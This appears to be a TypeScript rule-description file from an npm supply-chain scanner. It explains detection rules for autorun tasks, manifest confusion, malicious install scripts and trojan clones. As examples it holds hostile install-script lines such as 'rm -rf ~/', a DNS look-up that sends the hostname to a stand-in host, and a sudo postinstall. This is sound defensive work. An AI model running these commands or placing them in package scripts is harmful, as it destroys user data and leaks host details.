import type { Abouts } from './about.ts'

export const contents: Abouts = {
  'archive/autorun': {
    why: 'A package is read, not opened. A command for an editor, an agent or a container to start has no business in it.',
    example: '.vscode/tasks.json with a task that runs on folderOpen.',
    nearMiss: 'Editor settings that only format.',
  },
  'archive/oddities': {
    why: 'npm pack and pnpm pack never write links, duplicate paths or paths that leave the package. What does was made by hand, often so that two readers see two things.',
    example: 'Two entries called package/index.js with different contents.',
    nearMiss: 'Long paths and unusual modes, which packers do write.',
  },
  'archive/settings': {
    why: 'An npmrc in an archive redirects installs, names programs to start, and often holds a token. npm pack never packs one.',
    example: 'A .npmrc with a registry of its own.',
    nearMiss: 'An .editorconfig.',
  },
  'bin/shadows-command': {
    why: "The folder node_modules/.bin stands first on the PATH of every script, so a bin called git or node is started by the project's own scripts and tools.",
    example: 'A package of unknown name that brings a bin called git.',
    nearMiss: 'Well-known packages that own such a name, such as npm or which.',
  },
  'manifest/differs': {
    why: 'Manifest confusion (2023): the registry stores the manifest that the publisher sent beside the archive and never compares the two, while managers run the scripts of the archive.',
    example: 'The registry shows no scripts, the archive has a postinstall.',
    nearMiss: 'The install script that npm itself adds for a binding.gyp.',
  },
  'manifest/other-name': {
    why: "A registry takes name and version from the manifest, so an archive that calls itself otherwise is another package's.",
    example: 'left-pad whose package.json says right-pad.',
    nearMiss: 'A leading v or build metadata in the version, which registries drop.',
  },
  'manifest/remote-dependency': {
    why: 'A dependency that lies on a web server was seen by no registry, and its owner may send each visitor something else (PhantomRaven, 2025).',
    example: '"helper": "http://packages.host.invalid/helper.tgz"',
    nearMiss: 'An archive of a code host, which the rules about sources judge.',
  },
  'script/becomes-root': {
    why: "No package needs the administrator's rights to lie in a folder.",
    example: 'postinstall: sudo sh setup.sh',
    nearMiss: 'A README that tells a person to use sudo.',
  },
  'script/contacts-host': {
    why: 'An install script that calls a foreign host with curl or a name look-up reports. Honest downloaders are programs, and their hosts stand in the manifest.',
    example: 'preinstall: nslookup $(hostname).host.invalid',
    nearMiss: 'A script that fetches from the host of its own repository.',
  },
  'script/destroys': {
    why: "A script that deletes the root or the user's folder is never written by accident.",
    example: 'postinstall: rm -rf ~/',
    nearMiss: 'rm -rf dist',
  },
  'script/installs-packages': {
    why: 'It installs packages that nobody resolved, judged or locked. Dependencies belong into package.json.',
    example: 'postinstall: npm install other-package',
    nearMiss: 'esbuild and swc, which fetch their own binary where a manager left it out.',
  },
  'feed/known-malware': {
    why: 'The malware feed lists this exact version as malicious.',
    example: 'A version that is listed in the OpenSSF malicious packages repository.',
    nearMiss: 'Another version of the same name that is not listed.',
  },
  'policy/denied': {
    why: "The project's policy or a recorded denial names it. No exception lifts a denial: take the denial out instead.",
    example: '"deny": ["event-stream@3.3.6"]',
    nearMiss: 'A version outside of the range that the entry names.',
  },
  'clone/adds-code': {
    why: 'A trojan is a known package under another name with something added. What was added acts: it is an install script, or code of a kind that the known package does not have, in a file that it does not have.',
    example: 'A copy of a parser, by others, that asks a host for something when it is imported.',
    nearMiss: 'A fork that mends the code, whether it says that it is one or not; another package of the same people.',
  },
  'clone/copies-package': {
    why: 'At least half of the code of a known package is in a package that nobody knows, and makes up a third of it.',
    example: 'A package of unknown name that holds what chalk holds.',
    nearMiss:
      'A fork that says so in its README or description; a bundle that has a known package built in among much else.',
  },
  'clone/copies-readme': {
    why: 'What people read of a package is its README. That of another package makes it pass for that one.',
    example: 'A package of unknown name with the README of execa and other code.',
    nearMiss: 'A README that follows a common template; another package of the same people.',
  },
  'clone/claims-repository': {
    why: 'Copies keep the repository field of what they copied, to look like it.',
    example: 'An unknown package by unknown people that claims the repository of a popular one.',
    nearMiss: 'A fork that names its own repository; another package of the same people.',
  },
  'clone/runs-script': {
    why: 'A copy of a known package, under another name and by others, has to explain why it wants to run at once.',
    example: 'A package that claims a popular repository and has a postinstall.',
    nearMiss: 'The popular package itself, which may build a native part.',
  },
}
